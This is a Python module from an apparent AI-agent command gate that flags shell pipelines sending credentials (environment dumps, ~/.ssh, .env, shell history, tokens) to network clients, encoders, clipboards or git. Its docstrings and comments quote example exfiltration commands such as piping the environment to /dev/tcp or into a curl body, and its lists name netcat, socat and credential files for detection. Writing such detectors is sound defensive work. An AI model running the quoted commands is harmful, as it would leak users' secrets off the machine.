"""Secrets flowing out: a pipeline taint from sources to sinks (issue 30).

Sources are what holds credentials: the whole environment (``env``,
``printenv``, ``set``, ``export -p`` without arguments, ``/proc/*/environ``),
credential files and folders (``~/.ssh``, ``~/.aws``, ``.env``, read by any
reader or archiver), credential printers (``gh auth token``...).  Sinks are
where data leaves: the network clients, encoders whose output lands in the
transcript (``base64``, ``xxd``, ``openssl enc``: an encoded secret also slips
past every redaction rule) and clipboards.  A source that reaches a sink
through a pipe, or whose output a ``$(...)`` puts into a request body or URL
(``curl -d "env=$(env)" ...``), is exfiltration.

A token sent with a request is judged by where it goes: the variable's name
says whose token it is (``packs/tokens.tsv``: ``GITHUB_*`` -> github.com...),
so ``wget --header "Authorization: Bearer $GITHUB_TOKEN" https://github.com/...``
is ordinary use and the same header sent to any other host is not.
"""

from __future__ import annotations

import os
import re

from agentreflex.core.util.lazyre import LazyPattern
from agentreflex.gate.model import ASK, SECRET, UNKNOWN, Cmd, Hit, positional
from agentreflex.gate.shell.paths import Where, classify, is_history_file, is_secret_file

_ENCODERS = frozenset({"base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode"})
_CLIPBOARDS = frozenset({"pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe"})
NET = frozenset(
    {
        "curl",
        "wget",
        "http",
        "https",
        "xh",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "dig",
        "nslookup",
        "host",
    }
)
_DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
# a dumper's options that still list every variable with its value
_DUMP_OPTIONS: tuple[list[str], ...] = (
    [],
    ["-p"],
    ["-x"],
    ["-px"],
    ["-xp"],
    ["-p", "-x"],
    ["-x", "-p"],
)
_ARCHIVERS = frozenset({"tar", "zip", "7z", "gzip", "cat", "head", "tail", "cpio", "gpg"})
# curl's options whose value is a request header or credential: it goes to the server only.
HEADER_FLAGS = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer"})
_BODY_FLAGS = frozenset(
    {
        "-d",
        "--data",
        "--data-raw",
        "--data-binary",
        "--data-urlencode",
        "-F",
        "--form",
        "--post-data",
        "--body-data",
        "--json",
    }
)
_CRED_DIRS = frozenset({".ssh", ".aws", ".gnupg", ".kube", ".docker", ".azure"})
P_EXFIL = 0.9


def sinks_present(cmds: list[Cmd]) -> bool:
    """Cheap test: does the command line hold any sink at all (else this module is not needed)."""
    return any(
        c.name in _ENCODERS
        or c.name in _CLIPBOARDS
        or c.name in NET
        or (c.name == "openssl" and c.args[:1] in (["base64"], ["enc"]))
        for c in cmds
    )


def pipeline_hits(cmds: list[Cmd], where: Where) -> list[Hit]:
    """Sources reaching a sink through pipes or substitutions, and tokens sent elsewhere."""
    hits: list[Hit] = []
    tainted: dict[str, str] = {}  # files a source wrote in this command -> what they hold
    for cmd in cmds:
        what = source_of(cmd, where, network=True)
        if what:
            for op, target in cmd.redirects:
                if op in (">", ">>", ">|", "&>"):
                    tainted[classify(target, where, cmd.cwd)[1]] = what
        socket = to_socket(cmd)
        if socket:  # env > /dev/tcp/H/P, cat .env | base64 > /dev/tcp/H/P
            sent = what or _piped_source(cmd, where, network=True)
            if sent:
                hits.append(
                    _hit(
                        cmd,
                        f"This sends {sent} to {socket}, a network connection. Never send "
                        "credentials off the machine.",
                    )
                )
        if cmd.name in _COPIERS:
            tainted.update(_copied(cmd, where, tainted))
        if cmd.name == "git" and tainted:
            staged = _staged_copy(cmd, where, tainted)
            if staged:
                hits.append(
                    Hit(
                        "GATE-SECRET-WRITE",
                        SECRET,
                        P_EXFIL,
                        cmd.text,
                        f"This stages {staged} into git: once committed it stays in the "
                        "history, and once pushed everyone who can read the repository has "
                        "it (it must then be rotated). Keep credentials out of the work "
                        "tree's tracked files; commit a .example file with placeholders.",
                    )
                )
        if cmd.name in NET:
            sent = _uploads(cmd, where, tainted)
            if sent == HISTORY:
                hits.append(_hit(cmd, _HISTORY_SENT))
            elif sent:
                hits.append(
                    _hit(
                        cmd,
                        f"This uploads a file holding {sent}, written earlier in "
                        "the same command. Never send credentials off the machine.",
                    )
                )
        if cmd.name in NET and reads_stdin(cmd) and not _dumps_env(cmd.stdin_from):
            source = _piped_source(cmd, where, network=True)  # (environment pipes: secrets.py)
            if source and not (source[:1] == "$" and sent_to_own_service(cmd, source[1:])):
                hits.append(
                    _hit(
                        cmd,
                        f"This sends {source} to the network through a pipe. "
                        "Never send credentials off the machine.",
                    )
                )
        if cmd.name in NET and reads_stdin(cmd):
            dump = _piped_dump(cmd)
            if dump:
                hits.append(
                    Hit(
                        "GATE-EXFIL-DUMP",
                        ASK,
                        1.0,
                        cmd.text,
                        f"This sends the output of {dump}, a database dump (every row: "
                        "personal data, password hashes), to the network. Ask the user; "
                        "a backup goes to a file or to their own storage.",
                    )
                )
        if _is_sink(cmd) and cmd.name not in NET:
            source = _piped_source(cmd, where)
            if source and not _to_file(cmd) and not _only_summarised(cmd, cmds):
                hits.append(
                    _hit(
                        cmd,
                        f"This encodes or copies {source} out of the "
                        "terminal; an encoded secret slips past redaction. Read "
                        "only the one non-secret value you need.",
                    )
                )
        if cmd.name in NET:
            hits.extend(_network(cmd, cmds, where))
        if cmd.name in _GREPS and _prints_secret_env(cmd):
            hits.append(
                Hit(
                    "GATE-SECRET-ENV-PRINT",
                    SECRET,
                    P_EXFIL,
                    cmd.text,
                    "This prints the credentials of the environment into the transcript "
                    "(google-antigravity/antigravity-cli#781). Check a variable is set "
                    'without showing it: `test -n "$NAME"`, or list names only: '
                    "`env | cut -d= -f1 | grep -i key`.",
                )
            )
    return hits


_GREPS = frozenset({"grep", "egrep", "rg"})


def _prints_secret_env(cmd: Cmd) -> bool:
    """``env | grep -i key``: the environment filtered to its credentials, shown."""
    src = cmd.stdin_from
    if src is None or src.name not in _DUMPERS or src.args not in _DUMP_OPTIONS:
        return False
    from agentreflex.gate.rules.secrets import secret_named, summarises

    if cmd.pipes_out or _to_file(cmd) or summarises(cmd):  # only a status, a count or names
        return False

    return any(secret_named(a) for a in cmd.args if not a.startswith("-"))


def _staged_copy(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
    """``git add`` of a file a credential was copied or written into earlier in the same
    command (``cp .env notes.txt && git add notes.txt``), named or inside a folder added
    whole (``git add .``, ``-A``): ``""`` when none."""
    words = [a for a in cmd.args if a[:1] != "-"]
    if "add" not in words:
        return ""
    paths = words[words.index("add") + 1 :]
    whole = any(a in ("-A", "--all", "-u", "--update") for a in cmd.args) or not paths
    tops = [where.project.rstrip("/")] if whole else []
    named = [classify(p, where, cmd.cwd)[1].rstrip("/") for p in paths]
    tops += named
    for full, what in tainted.items():
        if is_secret_file(full) and full not in named:
            continue  # a copy named like a credential (.env.local): git honours .gitignore
        if any(full == t or full.startswith(t + "/") for t in tops if t):
            return f"{os.path.relpath(full, cmd.cwd) if cmd.cwd[:1] == '/' else full}, a copy of {what}"
    return ""


def _uploads(cmd: Cmd, where: Where, tainted: dict[str, str]) -> str:
    """What a tainted file holds when the request sends it (``-F f=@FILE``, ``-d @FILE``,
    ``-T FILE``, ``--upload-file``, ``--post-file=FILE``, ``< FILE``)."""
    from agentreflex.gate.rules.secrets import net_args

    args = net_args(cmd)
    named: list[str] = [t for op, t in cmd.redirects if op == "<"]
    for i, a in enumerate(args):
        value = args[i + 1] if i + 1 < len(args) else ""
        if a in ("-T", "--upload-file", "--post-file", "--body-file"):
            named.append(value)
        elif a.startswith(("--post-file=", "--body-file=", "--upload-file=")):
            named.append(a.split("=", 1)[1])
        elif a in _BODY_FLAGS and "@" in value:
            named.append(value.split("@", 1)[1].split(";", 1)[0])
    for n in named:
        full = classify(n, where, cmd.cwd)[1]
        if full in tainted:
            return tainted[full]
        for key, what in tainted.items():  # split's numbered parts: /tmp/part_*
            if key.endswith("*") and (full.startswith(key[:-1]) or full == key):
                return what
        if is_history_file(full):
            return HISTORY
    return ""


_COPIERS = frozenset(
    {
        "cp", "mv", "install", "ln", "rsync", "tar", "zip", "7z", "gpg", "gpg2", "openssl",
        "split", "dd", "gzip", "bzip2", "xz", "zstd", "lz4", "xxd",
    }
)  # fmt: skip
# compressors that replace FILE with FILE.EXT (unless -c/--stdout writes to stdout)
_COMPRESSED = {"gzip": ".gz", "bzip2": ".bz2", "xz": ".xz", "zstd": ".zst", "lz4": ".lz4"}
_FOLDER_ARCHIVERS = frozenset({"tar", "zip", "7z", "cpio"})  # they take a folder whole


def _copied(cmd: Cmd, where: Where, tainted: dict[str, str] | None = None) -> dict[str, str]:
    """Files a copy or an archive of credentials becomes (``cp .env /tmp/x``, ``zip s.zip .env``,
    ``tar czf k.tgz ~/.ssh``, ``gpg -c .env``), as resolved path -> what they hold, so a
    later upload of the copy is judged as an upload of the original."""
    name, args = cmd.name, cmd.args
    ops = [a for a in args if a and not a.startswith("-")]
    outs: list[str] = []
    sources: list[str] = []
    if name in ("cp", "mv", "install", "ln", "rsync") and len(ops) >= 2:
        sources = ops[:-1]
        outs = [ops[-1]] + [
            ops[-1].rstrip("/") + "/" + os.path.basename(s.rstrip("/")) for s in sources
        ]
    elif name == "tar":
        archive = ""
        for i, a in enumerate(args):
            nxt = args[i + 1] if i + 1 < len(args) else ""
            if (
                a in ("-f", "--file")
                or (a[:1] == "-" and a[1:2] != "-" and a.endswith("f"))
                or (i == 0 and a[:1] != "-" and "f" in a and a.isalpha())
            ):
                archive = nxt
                break
            if a.startswith("--file="):
                archive = a.split("=", 1)[1]
                break
        outs = [archive] if archive else []
        sources = [a for a in ops if a != archive and not (a is args[0] and a.isalpha())]
    elif name == "zip" and len(ops) >= 2:
        outs, sources = [ops[0], ops[0] + ".zip"], ops[1:]
    elif name == "7z" and ops[:1] == ["a"] and len(ops) >= 3:
        outs, sources = [ops[1]], ops[2:]
    elif name == "openssl":  # openssl enc -aes-256-cbc -in .env -out e.bin
        from agentreflex.gate.rules.secrets import option_values

        sources, outs = option_values(args, ("-in",)), option_values(args, ("-out",))
    elif name == "split":  # split -b 100 .env /tmp/part_: /tmp/part_aa, ...
        words = positional(args, ("-a", "-b", "-C", "-l", "-n", "-t"))
        sources, outs = words[:1], [(words[1] if len(words) > 1 else "x") + "*"]
    elif name == "dd":
        sources = [a[3:] for a in args if a.startswith("if=")]
        outs = [a[3:] for a in args if a.startswith("of=")]
    elif name in _COMPRESSED and not any(
        a in ("-c", "--stdout", "-d", "--decompress") for a in args
    ):
        sources = ops
        outs = [o + _COMPRESSED[name] for o in ops]
    elif name == "xxd" and len(ops) >= 2:
        sources, outs = ops[:1], ops[1:2]
    elif name in ("gpg", "gpg2") and ops:
        given = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-o", "--output")]
        sources = [o for o in ops if o not in given]
        outs = given or [f"{s}{ext}" for s in sources for ext in (".gpg", ".asc")]
    for src in sources:
        full = classify(src, where, cmd.cwd)[1]
        what = (tainted or {}).get(full, "")  # a copy of a copy: cp .env /tmp/e && gzip /tmp/e
        if what:
            pass
        elif is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS:
            what = f"{src} (credentials)"
        elif name in _FOLDER_ARCHIVERS and _holds_home(full, where):
            what = HOME_HELD
        elif is_history_file(full):
            what = HISTORY  # a copy is judged only when it is uploaded
        if what:
            return {classify(o, where, cmd.cwd)[1]: what for o in outs if o}
    return {}


def _decodes(cmd: Cmd) -> bool:
    return any(
        a in ("-d", "--decode", "-D", "-r", "--revert")
        or (a[:1] == "-" and a[1:2] != "-" and a[1:].isalpha() and ("d" in a or "r" in a))
        for a in cmd.args
    )


def reads_stdin(cmd: Cmd) -> bool:
    """Whether a network client sends what is piped into it."""
    if cmd.name in ("nc", "ncat", "netcat", "socat", "http", "https", "xh"):
        return True
    from agentreflex.gate.rules.secrets import net_args

    args = net_args(cmd)
    return any(a.endswith("@-") for a in args) or any(
        a in ("-T", "--upload-file", "--post-file", "--body-file")
        and i + 1 < len(args)
        and args[i + 1] in ("-", "/dev/stdin")
        for i, a in enumerate(args)
    )


def _only_summarised(cmd: Cmd, cmds: list[Cmd]) -> bool:
    """An encoder whose whole output goes into a summarising filter (``base64 | wc -c``):
    only a count or a status leaves, as ``cat .env | wc -l`` (rules.secrets' one
    definition of ``summarises``).  A clipboard tool keeps its copy whatever follows."""
    if cmd.name in _CLIPBOARDS or not cmd.pipes_out or cmd.redirects:
        return False
    from agentreflex.gate.rules.secrets import summarises

    fed = [c for c in cmds if c.stdin_from is cmd]
    return len(fed) == 1 and summarises(fed[0])


# Programs whose output is a database's contents (their docs: pg_dump, mysqldump,
# mongodump --archive writes to stdout when given no file)
_DB_DUMPERS = frozenset(
    {"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mongodump", "mongoexport"}
)


def _piped_dump(sink: Cmd) -> str:
    """The database dumper whose output reaches ``sink`` through pipes (``""`` when none)."""
    src = sink.stdin_from
    for _ in range(16):
        if src is None:
            return ""
        if src.name in _DB_DUMPERS or (src.name == "sqlite3" and ".dump" in src.args):
            return src.name
        src = src.stdin_from
    return ""


def _dumps_env(cmd: Cmd | None) -> bool:
    return cmd is not None and cmd.name in _DUMPERS and not cmd.args


def _is_sink(cmd: Cmd) -> bool:
    if cmd.name in _ENCODERS and _decodes(cmd):
        return False  # base64 -d prints plaintext: not a way past redaction
    if cmd.name in _ENCODERS or cmd.name in _CLIPBOARDS or cmd.name in NET:
        return True
    return cmd.name == "openssl" and cmd.args[:1] in (["base64"], ["enc"])


def _piped_source(sink: Cmd, where: Where, network: bool = False) -> str:
    from agentreflex.gate.rules.secrets import summarises

    src = sink.stdin_from
    for _ in range(16):
        if src is None:
            return ""
        what = source_of(src, where, network)
        if what:
            return what
        if summarises(src):  # a count or a status of what came before: none of it
            return ""
        src = src.stdin_from
    return ""


HISTORY = "the shell history (where passwords and tokens typed on a command line stay)"
HOME_HELD = "the home folder (which holds ~/.ssh and ~/.aws)"


_HISTORY_SENT = (
    f"This sends {HISTORY} off the machine: every password, token and connection string "
    "ever typed on a command line would be readable there. Send only the lines you need, "
    "with their secrets removed, or ask the user."
)


def _holds_home(full: str, where: Where) -> bool:
    """The home folder, or a folder above it: an archive of it holds every credential."""
    top, home = full.rstrip("/") or "/", where.home.rstrip("/")
    return bool(home) and (top == home or home.startswith(top.rstrip("/") + "/"))


def source_of(cmd: Cmd, where: Where, network: bool = False) -> str:
    """What credential ``cmd`` writes to its stdout (``""`` when none).  With ``network``
    (the output is sent off the machine) the shell history counts too: reading it is
    everyday work, sending it is not (https://attack.mitre.org/techniques/T1552/003/)."""
    if cmd.name in _DUMPERS and cmd.args in _DUMP_OPTIONS:
        return "the whole environment (which holds credentials)"
    if (
        network
        and cmd.name in ("history", "fc")
        and not any(a.startswith("-") and set(a[1:]) & set("cdrwe") for a in cmd.args)
    ):
        return HISTORY
    from agentreflex.gate.rules.secrets import line_loop, secret_named

    if cmd.name == "printenv" and any(secret_named(a) for a in cmd.args):
        return f"${next(a for a in cmd.args if secret_named(a))}"
    if cmd.name in ("echo", "printf"):
        named = [v for v in cmd.vars_used if secret_named(v)]
        if named:
            return f"${named[0]}"
    files = [a for a in cmd.args if a and not a.startswith("-")]
    files += [t for op, t in cmd.redirects if op == "<"]
    for f in files:
        full = classify(f, where, cmd.cwd)[1]
        if full.startswith("/proc/") and full.endswith("/environ"):
            return "a process environment"
        readers = cmd.name in _ARCHIVERS or cmd.name in _ENCODERS or line_loop(cmd)
        if readers and (is_secret_file(full) or os.path.basename(full.rstrip("/")) in _CRED_DIRS):
            return f"{f} (credentials)"
        if cmd.name in _FOLDER_ARCHIVERS and _holds_home(full, where):
            return HOME_HELD
        if network and readers and is_history_file(full):
            return HISTORY
    from agentreflex.gate.rules.secrets import secret_fetcher, secret_printer

    return secret_printer(cmd) or secret_fetcher(cmd)


def to_socket(cmd: Cmd) -> str:
    """The ``/dev/tcp/HOST/PORT`` (or ``/dev/udp``) bash connects ``cmd``'s output to."""
    for op, target in cmd.redirects:
        if op[:1] in (">", "&") and target.startswith(("/dev/tcp/", "/dev/udp/")):
            return target
    return ""


def _network(cmd: Cmd, cmds: list[Cmd], where: Where) -> list[Hit]:
    """A substitution's secret in a request body or URL; a token sent to another service."""
    hits: list[Hit] = []
    from agentreflex.gate.rules.secrets import net_args

    args = net_args(cmd)
    body = [a for i, a in enumerate(args) if _is_body(args, i)]
    if any(UNKNOWN in a for a in body):
        for other in cmds:
            if other.via == "substitution" and other is not cmd:
                what = source_of(other, where, network=True)
                if what:
                    hits.append(
                        _hit(
                            cmd,
                            f"This sends {what} in a request: its output is "
                            "put into the request body or URL. Never send "
                            "credentials off the machine.",
                        )
                    )
                    break
    host = request_host(cmd)
    if host:
        for var in cmd.vars_used:
            owners = token_hosts(var) if names_a_token(var) else ()
            if owners and not host_in(host, owners):
                hits.append(
                    _hit(
                        cmd,
                        f"This sends ${var} to {host}, which is not the "
                        f"service that token belongs to ({', '.join(owners)}). "
                        "Send a token only to its own service.",
                    )
                )
                break
    return hits


def sent_to_own_service(cmd: Cmd, var: str) -> bool:
    """Whether the token in ``var`` goes to its own service's host (``codecov -t $CODECOV_TOKEN``
    uploading to codecov.io), so putting it in a request body is ordinary use."""
    owners = token_hosts(var)
    host = request_host(cmd)
    return bool(owners and host and host_in(host, owners))


def _is_body(args: list[str], i: int) -> bool:
    a = args[i]
    if i and args[i - 1] in HEADER_FLAGS:
        return False
    if i and args[i - 1] in _BODY_FLAGS:
        return True
    if a.startswith("-"):
        return a.partition("=")[0] in _BODY_FLAGS and "=" in a
    return "://" in a or "." in a.split("/", 1)[0]


_TOKENS: list[tuple[str, tuple[str, ...]]] = []
# A personal access token's usual name (GH_PAT, GITHUB_PAT, CR_PAT): no credential word in it.
_PAT = LazyPattern(r"(?:^|_)PAT(?:_|$)", re.IGNORECASE)


def names_a_token(var: str) -> bool:
    """Whether variable ``var`` is named as a credential (``GITHUB_TOKEN``, ``NPM_AUTH``,
    ``GH_PAT``, ``CI_JOB_TOKEN``).  A service's prefix alone says only whose variable
    it is: GitHub Actions' ``GITHUB_REPOSITORY``, ``GITHUB_SHA``, ``GITHUB_REF_NAME``
    are a repository's name, a commit and a tag, sent anywhere in a URL."""
    from agentreflex.gate.rules.secrets import secret_named

    return secret_named(var) or bool(_PAT.search(var))


def token_hosts(var: str) -> tuple[str, ...]:
    """The hosts the token in variable ``var`` belongs to (``packs/tokens.tsv``); ``()`` when
    its name names no known service."""
    if not _TOKENS:
        path = os.path.join(os.path.dirname(os.path.dirname(__file__)), "packs", "tokens.tsv")
        with open(path, encoding="utf-8") as fh:
            for line in fh:
                prefix, sep, listed = line.rstrip("\n").partition("\t")
                if sep and not prefix.startswith("#"):
                    _TOKENS.append((prefix, tuple(h for h in listed.split(",") if h)))
    up = var.upper()
    for prefix, owners in _TOKENS:
        if up.startswith(prefix):
            return owners
    return ()


def request_host(cmd: Cmd) -> str:
    """The host of the request's URL, when it is known."""
    from agentreflex.gate.rules.secrets import net_args

    args = net_args(cmd)
    for i, a in enumerate(args):
        if i and args[i - 1] in HEADER_FLAGS | _BODY_FLAGS | {
            "-o",
            "--output",
            "-O",
            "-X",
            "--request",
        }:
            continue
        if a.startswith("-"):
            continue
        rest = a.split("://", 1)[1] if "://" in a else ""
        if rest:
            host = rest.split("/", 1)[0].split("@")[-1].split(":", 1)[0].lower()
            return "" if UNKNOWN in host else host
    return ""


def host_in(host: str, owners: tuple[str, ...]) -> bool:
    """Whether ``host`` is one of ``owners`` or under it (``uploads.github.com`` is
    GitHub's); an owner with no dot is a word any of that service's hosts holds."""
    for o in owners:
        if "." not in o:  # a word any host of that service holds (self-hosted gitlab.example.org)
            if o in host.split("."):
                return True
        elif host == o or host.endswith("." + o):
            return True
    return False


def _to_file(cmd: Cmd) -> bool:
    return any(op in (">", ">>", ">|", "&>") for op, _ in cmd.redirects) or (
        cmd.name in _ENCODERS and any(a in ("-o", "--output") for a in cmd.args)
    )


def _hit(cmd: Cmd, message: str) -> Hit:
    return Hit("GATE-EXFIL-SECRET", SECRET, P_EXFIL, cmd.text, message)
